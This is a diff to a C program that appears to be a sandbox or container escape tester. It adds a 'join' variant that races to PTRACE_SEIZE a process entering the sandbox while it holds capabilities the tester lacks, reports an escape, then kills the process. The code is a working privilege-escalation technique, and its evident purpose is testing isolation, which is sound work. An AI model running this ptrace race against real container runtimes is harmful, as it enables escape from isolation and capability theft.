@@ -259,6 +259,41 @@ static int attack_kernel(void)
 
 /* ---- who joins ---- */
 
+static unsigned long long rights_of(const char *pid)
+{
+    unsigned long long rights = 0;
+    char path[64], line[256];
+
+    snprintf(path, sizeof path, "/proc/%s/status", pid);
+    FILE *f = fopen(path, "re");
+    while (f && fgets(line, sizeof line, f))
+        if (sscanf(line, "CapPrm: %llx", &rights) == 1)
+            break;
+    if (f)
+        fclose(f);
+    return rights;
+}
+
+/* With CAP_SYS_PTRACE everything here can be traced; it must have nothing that we have not. */
+static void take_rights(pid_t pid)
+{
+    unsigned long long ours = rights_of("self");
+    char number[16];
+
+    snprintf(number, sizeof number, "%d", (int)pid);
+    for (double end = now() + 0.05; now() < end && kill(pid, 0) == 0;) {
+        unsigned long long more = rights_of(number) & ~ours;
+        if (!more || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+            continue;
+        more = rights_of(number) & ~ours;
+        if (more)
+            escaped("traced process %d, with the rights %llx more", (int)pid, more);
+        kill(pid, SIGKILL);
+        waitpid(pid, NULL, __WALL);
+        return;
+    }
+}
+
 /* Until it executes its command it is the runtime. */
 static void look_into(pid_t pid, const struct stat *our, const struct stat *shell)
 {
@@ -285,7 +320,7 @@ static void look_into(pid_t pid, const struct stat *our, const struct stat *shel
 }
 
 /* The next process here will be the one that joins. */
-static int attack_join(double seconds)
+static int attack_join(double seconds, bool rights)
 {
     struct stat our, shell;
     pid_t next;
@@ -298,7 +333,10 @@ static int attack_join(double seconds)
         next = next_number();
         for (double soon = now() + 0.2; now() < soon;)
             if (kill(next, 0) == 0) {
-                look_into(next, &our, &shell);
+                if (rights)
+                    take_rights(next);
+                else
+                    look_into(next, &our, &shell);
                 next++;
             }
     }
@@ -343,7 +381,7 @@ int main(int argc, char **argv)
     int rc = strcmp(what, "overwrite") == 0 ? attack_overwrite(atof(argv[2]))
              : strcmp(what, "fds") == 0     ? attack_fds()
              : strcmp(what, "kernel") == 0  ? attack_kernel()
-             : strcmp(what, "join") == 0    ? attack_join(atof(argv[2]))
+             : strcmp(what, "join") == 0    ? attack_join(atof(argv[2]), argc > 3)
              : strcmp(what, "swap") == 0    ? attack_swap(argv[2], argv[3], atof(argv[4]))
              : strcmp(what, "rights") == 0  ? attack_rights()
                                             : 2;
